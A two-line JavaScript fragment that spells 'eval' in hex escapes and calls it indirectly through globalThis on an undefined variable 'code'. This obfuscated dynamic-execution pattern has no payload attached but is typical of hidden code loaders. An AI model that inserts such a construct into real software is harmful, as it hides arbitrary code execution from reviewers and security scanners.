const k = ['\x65\x76\x61\x6c'];
globalThis[k[0]](code);
